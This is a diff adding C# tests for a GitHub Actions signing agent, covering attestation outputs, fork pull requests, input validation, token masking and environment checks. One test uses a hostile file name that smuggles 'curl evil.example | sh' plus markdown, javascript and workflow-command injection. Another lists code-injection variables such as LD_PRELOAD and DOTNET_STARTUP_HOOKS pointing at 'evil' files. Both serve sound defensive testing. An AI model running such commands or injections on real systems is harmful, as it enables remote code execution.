@@ -1,0 +1,251 @@
+using System.Text;
+using SigningAction.Agent.Pipelines.GitHubActions;
+using SigningAction.Agent.Tests.Fakes;
+using SigningAction.Agent.Tests.Pipelines;
+using SigningAction.Evidence.Bundles;
+using SigningAction.Evidence.Verification;
+
+namespace SigningAction.Agent.Tests.Commands;
+
+/// <summary>The step as the runner starts it: inputs in variables with hyphens, outputs and summary in files.</summary>
+public sealed class ActionTests : IDisposable
+{
+    private const string GitHubToken = "ghs_canary0123456789canary0123456789";
+    private static readonly VerificationPolicy Policy = new() { Issuer = "https://token.example", Identity = "https://github.com/octo/app/.github/workflows/release.yml@refs/heads/main" };
+
+    private readonly SmallSigstore _sigstore = new(TimeProvider.System);
+    private readonly TestPlace _place;
+
+    public ActionTests()
+    {
+        _place = new TestPlace { Network = _sigstore }.AsGitHubJob(SmallSigstore.TokenUrl);
+        _place.Variables["GITHUB_WORKSPACE"] = _place.Directory_;
+        foreach (var input in ActionInputs.All)
+        {
+            // As the runner does it: every input is there, empty where neither the workflow nor action.yml gives a value.
+            _place.Variables[input.Variable] = input.Default;
+        }
+
+        Set(ActionInputs.GitHubToken, GitHubToken);
+        Set(ActionInputs.Authority, SmallSigstore.Url);
+    }
+
+    [Fact]
+    public async Task A_step_attests_and_gives_paths_that_hold_outside_its_container()
+    {
+        _place.Write("dist/a.zip", "a");
+        _place.Write("dist/b.zip", "b");
+        Set(ActionInputs.SubjectPath, "dist/a.zip\ndist/b*");
+        await RunAsync(AgentFaults.Success);
+        var outputs = Outputs();
+        var path = outputs[ActionOutputs.BundlePath];
+        Assert.StartsWith("attestations/attestation-", path, StringComparison.Ordinal);
+        Assert.Equal(path, outputs[ActionOutputs.BundlePaths]);
+        Assert.Equal(Policy.Identity, outputs[ActionOutputs.CertificateIdentity]);
+        Assert.Equal("5", outputs[ActionOutputs.LogIndex]);
+        Assert.Equal(["a.zip", "b.zip"], Verify(path, "b").Statement!.Subjects.Select(s => s.Name));
+    }
+
+    [Fact]
+    public async Task Sign_makes_a_signature_a_file_beside_the_attestation_with_the_same_certificate()
+    {
+        _place.Write("dist/a.zip", "a");
+        Set(ActionInputs.SubjectPath, "dist/a.zip");
+        Set(ActionInputs.Sign, "True");
+        await RunAsync(AgentFaults.Success);
+        Assert.NotNull(Verify("attestations/a.zip.provenance.sigstore.json", "a").Statement);
+        Assert.Null(Verify("attestations/dist/a.zip.sigstore.json", "a").Statement);
+        Assert.Single(_sigstore.Asked, "/api/v2/signingCert");
+        Assert.Equal(2, Outputs()[ActionOutputs.BundlePaths].Split('\n').Length);
+    }
+
+    [Fact]
+    public async Task A_forks_pull_request_is_skipped_with_a_notice_and_nothing_is_asked_for()
+    {
+        AsPullRequest(from: 2);
+        _place.Write("a.zip", "a");
+        Set(ActionInputs.SubjectPath, "a.zip");
+        await RunAsync(AgentFaults.Success);
+        Assert.Contains("::notice title=signing-agent%3A nothing was signed::", _place.Error.ToString(), StringComparison.Ordinal);
+        Assert.Contains("Nothing was signed", File.ReadAllText(_place.PathOf(".summary")), StringComparison.Ordinal);
+        Assert.Empty(_sigstore.Asked);
+        Assert.False(File.Exists(_place.PathOf(".output")));
+    }
+
+    [Fact]
+    public async Task A_forks_pull_request_fails_where_that_is_wanted()
+    {
+        AsPullRequest(from: 2);
+        _place.Write("a.zip", "a");
+        Set(ActionInputs.SubjectPath, "a.zip");
+        Set(ActionInputs.OnFork, "fail");
+        await RunAsync(AgentFaults.Refused);
+        Assert.Contains("NO_IDENTITY", _place.Error.ToString(), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task A_job_that_forgot_its_permission_fails_whatever_a_fork_may_do()
+    {
+        AsPullRequest(from: 1);
+        _place.Write("a.zip", "a");
+        Set(ActionInputs.SubjectPath, "a.zip");
+        await RunAsync(AgentFaults.Refused);
+        Assert.Contains("permissions: id-token: write", _place.Error.ToString(), StringComparison.Ordinal);
+    }
+
+    [Theory]
+    [InlineData("sign", "yes", "write true or false")]
+    [InlineData("show-summary", "1", "write true or false")]
+    [InlineData("on-fork", "ignore", "write skip or fail")]
+    [InlineData("wait", "10", "with s, m or h")]
+    [InlineData("wait", "-1m", "with s, m or h")]
+    [InlineData("wait", "m", "with s, m or h")]
+    [InlineData("wait", "0m", "wait must be")]
+    [InlineData("wait", "99999999999h", "with s, m or h")]
+    [InlineData("predicate", "{}", "without predicate-type")]
+    public async Task An_input_that_means_nothing_is_a_usage_error_that_says_what_to_write(string input, string value, string sentence)
+    {
+        _place.Write("a.zip", "a");
+        Set(ActionInputs.SubjectPath, "a.zip");
+        _place.Variables["INPUT_" + input.ToUpperInvariant()] = value;
+        await RunAsync(AgentFaults.Usage);
+        Assert.Contains(sentence, _place.Error.ToString(), StringComparison.Ordinal);
+        Assert.Empty(_sigstore.Asked);
+    }
+
+    [Fact]
+    public async Task An_input_with_underscores_is_a_misspelling_and_not_silence()
+    {
+        _place.Write("a.zip", "a");
+        Set(ActionInputs.SubjectPath, "a.zip");
+        _place.Variables["INPUT_SBOM_PATH"] = "sbom.json";
+        await RunAsync(AgentFaults.Usage);
+        Assert.Contains("write 'sbom-path'", _place.Error.ToString(), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task The_token_of_the_API_is_masked_first_and_never_printed()
+    {
+        Set(ActionInputs.SubjectPath, GitHubToken);
+        await RunAsync(AgentFaults.Usage);
+        var lines = _place.Error.ToString().Split('\n');
+        Assert.Equal($"::add-mask::{GitHubToken}", lines[0]);
+        Assert.DoesNotContain(lines[1..], line => line.Contains("ghs_canary", StringComparison.Ordinal));
+        Assert.Contains(lines, line => line.Contains("NO_MATCH", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public async Task A_hostile_name_is_a_name_in_log_outputs_summary_and_command()
+    {
+        const string Name = "a'; curl evil.example | sh #[x](javascript:1)<b>::set-output name=x::.zip";
+        _place.Write(Name.Replace("/", "", StringComparison.Ordinal), "a");
+        Set(ActionInputs.SubjectPath, "*.zip");
+        Set(ActionInputs.Sign, "true");
+        await RunAsync(AgentFaults.Success);
+        var summary = File.ReadAllText(_place.PathOf(".summary"));
+        Assert.DoesNotContain("[x]", summary, StringComparison.Ordinal);
+        Assert.DoesNotContain("<b>", summary, StringComparison.Ordinal);
+        Assert.DoesNotContain("javascript:", summary, StringComparison.Ordinal);
+        var shown = System.Net.WebUtility.HtmlDecode(summary);
+        Assert.Contains(@"signing-verifier verify 'a'\''; curl evil.example | sh #[x](javascript:1)<b>::set-output name=x::.zip' --bundle", shown, StringComparison.Ordinal);
+        Assert.Contains("cosign verify-blob-attestation", shown, StringComparison.Ordinal);
+        Assert.Contains("gh attestation verify", shown, StringComparison.Ordinal);
+        Assert.DoesNotContain(_place.Error.ToString().Split('\n'), line => line.StartsWith("::set-output", StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public async Task No_summary_is_written_where_none_is_wanted()
+    {
+        _place.Write("a.zip", "a");
+        Set(ActionInputs.SubjectPath, "a.zip");
+        Set(ActionInputs.ShowSummary, "false");
+        await RunAsync(AgentFaults.Success);
+        Assert.False(File.Exists(_place.PathOf(".summary")));
+    }
+
+    [Theory]
+    [InlineData("DOTNET_STARTUP_HOOKS", "/tmp/evil.dll")]
+    [InlineData("DOTNET_ADDITIONAL_DEPS", "/tmp/x.deps.json")]
+    [InlineData("CORECLR_PROFILER", "{1}")]
+    [InlineData("CORECLR_ENABLE_PROFILING", "1")]
+    [InlineData("LD_PRELOAD", "/tmp/evil.so")]
+    [InlineData("OPENSSL_CONF", "/tmp/evil.cnf")]
+    [InlineData("DOTNET_DbgEnableMiniDump", "1")]
+    public async Task A_variable_that_brings_code_of_others_into_the_process_stops_it_before_anything_is_read(string name, string value)
+    {
+        _place.Write("a.zip", "a");
+        Set(ActionInputs.SubjectPath, "a.zip");
+        _place.Variables[name] = value;
+        await RunAsync(AgentFaults.Refused);
+        Assert.Contains("FOREIGN_CODE", _place.Error.ToString(), StringComparison.Ordinal);
+        Assert.Contains(name, _place.Error.ToString(), StringComparison.Ordinal);
+        Assert.DoesNotContain("evil", _place.Printed, StringComparison.Ordinal);
+        Assert.Empty(_sigstore.Asked);
+    }
+
+    [Fact]
+    public async Task What_only_moves_trust_or_traffic_is_followed_and_named()
+    {
+        _place.Write("a.zip", "a");
+        Set(ActionInputs.SubjectPath, "a.zip");
+        _place.Variables["SSL_CERT_FILE"] = "/etc/ca.pem";
+        _place.Variables["HTTPS_PROXY"] = "http://user:secret@proxy";
+        await RunAsync(AgentFaults.Success);
+        Assert.Contains("Set by the environment, and followed: SSL_CERT_FILE, HTTPS_PROXY.", _place.Error.ToString(), StringComparison.Ordinal);
+        Assert.DoesNotContain("user:secret", _place.Printed, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task Two_steps_on_one_workspace_have_files_of_their_own()
+    {
+        _place.Write("a.zip", "a");
+        _place.Write("b.zip", "b");
+        _place.Write("sbom.json", """{"bomFormat":"CycloneDX","specVersion":"1.6"}""");
+        Set(ActionInputs.SubjectPath, "a.zip");
+        await RunAsync(AgentFaults.Success);
+        Set(ActionInputs.SbomPath, "sbom.json");
+        await RunAsync(AgentFaults.Success);
+        Set(ActionInputs.SubjectPath, "b.zip");
+        await RunAsync(AgentFaults.Success);
+        Assert.Equal(
+            ["a.zip.cyclonedx.sigstore.json", "a.zip.provenance.sigstore.json", "b.zip.cyclonedx.sigstore.json"],
+            Directory.GetFiles(_place.PathOf("attestations")).Select(Path.GetFileName).Order(StringComparer.Ordinal));
+    }
+
+    [Fact]
+    public void Every_input_has_a_name_of_its_own_with_the_variable_that_the_runner_sets()
+    {
+        Assert.Equal(ActionInputs.All.Count, ActionInputs.All.Select(i => i.Variable).Distinct(StringComparer.Ordinal).Count());
+        Assert.Equal("INPUT_SUBJECT-PATH", ActionInputs.SubjectPath.Variable);
+        Assert.Equal(
+            typeof(ActionInputs).GetFields().Length, ActionInputs.All.Count);
+        Assert.Equal(typeof(ActionOutputs).GetFields().Length, ActionOutputs.All.Count);
+    }
+
+    public void Dispose()
+    {
+        _place.Dispose();
+        _sigstore.Dispose();
+    }
+
+    private void Set(ActionInput input, string value) => _place.Variables[input.Variable] = value;
+
+    /// <summary>A pull request into repository 1, in a job without identity.</summary>
+    private void AsPullRequest(int from)
+    {
+        _place.Variables.Remove("ACTIONS_ID_TOKEN_REQUEST_URL");
+        _place.Variables["GITHUB_EVENT_PATH"] = _place.Write("event.json", $$"""{"repository":{"id":1},"pull_request":{"head":{"repo":{"id":{{from}} } } } }""");
+    }
+
+    private async Task RunAsync(int expected)
+    {
+        var code = await SigningAgent.RunAsync(["action"], _place.Environment, TestContext.Current.CancellationToken);
+        Assert.True(code == expected, $"{code}: {_place.Printed}");
+    }
+
+    private Dictionary<string, string> Outputs() =>
+        OutputFileTests.Parse(File.ReadAllText(_place.PathOf(".output"))).ToDictionary(o => o.Item1, o => o.Item2, StringComparer.Ordinal);
+
+    private VerifiedBundle Verify(string bundle, string content) =>
+        new Verifier(_sigstore.Root).Verify(Bundle.Parse(File.ReadAllBytes(_place.PathOf(bundle))), Artifact.OfBytes(Encoding.UTF8.GetBytes(content)), Policy);
+}
